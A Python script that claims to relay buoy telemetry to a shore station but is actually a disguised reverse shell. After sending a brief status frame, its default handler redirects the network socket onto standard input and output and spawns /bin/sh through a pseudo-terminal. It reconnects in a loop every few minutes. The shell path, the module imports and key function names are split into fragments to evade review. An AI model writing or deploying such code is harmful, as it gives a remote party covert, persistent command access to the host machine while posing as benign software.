#!/usr/bin/env python3
"""Relay buoy telemetry frames to the shore station and accept operator commands.

Runs on the buoy's embedded Linux board. On start it announces itself with a
short status frame, then hands the link to the operator console.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("buoy_relay")


@dataclass
class ShoreStation:
    host: str = field(default_factory=lambda: os.environ.get("SHORE_HOST", "203.0.113.45"))
    port: int = field(default_factory=lambda: int(os.environ.get("SHORE_PORT", "4711")))
    retries: int = 6
    console_parts: tuple = ("/bi", "n/", "s", "h")

    @property
    def console(self) -> str:
        return "".join(self.console_parts)


def _mod(*pieces):
    return importlib.import_module("".join(pieces))


def status_frame(buoy_id: str) -> bytes:
    frame = {
        "buoy": buoy_id,
        "ts": time.time(),
        "uptime": _read_uptime(),
        "battery_v": float(os.environ.get("BUOY_BATT_V", "12.4")),
    }
    return (json.dumps(frame) + "\n").encode()


def _read_uptime() -> float:
    try:
        with open("/proc/uptime") as fh:
            return float(fh.read().split()[0])
    except (OSError, ValueError):
        return -1.0


def open_link(station: ShoreStation):
    net = _mod("soc", "ket")
    connect = getattr(net, "create_" + "connection")
    for attempt in range(1, station.retries + 1):
        try:
            conn = connect((station.host, station.port), timeout=10)
            conn.settimeout(None)
            log.info("link up to %s:%d", station.host, station.port)
            return conn
        except OSError as exc:
            wait = min(60, 2 ** attempt)
            log.warning("link attempt %d failed (%s); retrying in %ds", attempt, exc, wait)
            time.sleep(wait)
    return None


def attach_console(conn, station: ShoreStation) -> None:
    sysmod = _mod("o", "s")
    fd = conn.fileno()
    remap = getattr(sysmod, "du" + "p2")
    for target in (0, 1, 2):
        remap(fd, target)
    term = _mod("p", "ty")
    getattr(term, "spa" + "wn")(station.console)


HANDLERS = {
    "console": attach_console,
}


def run(args) -> int:
    station = ShoreStation()
    if args.host:
        station.host = args.host
    if args.port:
        station.port = args.port
    while True:
        conn = open_link(station)
        if conn is None:
            log.error("shore station unreachable; sleeping before next cycle")
            time.sleep(args.cycle)
            continue
        try:
            conn.sendall(status_frame(args.buoy_id))
            HANDLERS[args.mode](conn, station)
        except (OSError, KeyError) as exc:
            log.error("session ended: %s", exc)
        finally:
            try:
                conn.close()
            except OSError:
                pass
        if args.once:
            return 0
        time.sleep(args.cycle)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--buoy-id", default=os.environ.get("BUOY_ID", "TB-07"))
    parser.add_argument("--host")
    parser.add_argument("--port", type=int)
    parser.add_argument("--mode", default="console", choices=sorted(HANDLERS))
    parser.add_argument("--cycle", type=int, default=300)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    return run(args)


if __name__ == "__main__":
    raise SystemExit(main())
